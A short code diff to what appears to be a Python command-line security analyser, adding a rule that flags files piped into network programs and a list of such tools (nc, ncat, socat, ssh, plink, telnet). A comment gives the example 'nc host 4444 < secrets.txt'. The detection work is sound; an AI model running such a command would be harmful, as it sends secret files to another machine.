@@ -26,6 +26,10 @@ from typing import Literal, TypeAlias
 
 Value: TypeAlias = str | None  # None: not constant after folding
 RUN_PATH = "<run>"  # the operation of a program started by a UNC path (module docstring)
+# The operation of a file given on a network program's input (`nc host 4444 < secrets.txt` in cmd): its content
+# goes to the other end of the connection (S-RULE-158). Programs in `NETWORK_SENDERS`.
+SEND_PATH = "<send>"
+NETWORK_SENDERS = frozenset({"nc", "ncat", "netcat", "nc64", "socat", "ssh", "plink", "telnet"})
 UNC_STARTS = ("\\\\", "//")  # how a UNC path is written
 Shell: TypeAlias = Literal["powershell", "cmd", "program", "dotnet", "com"]
 
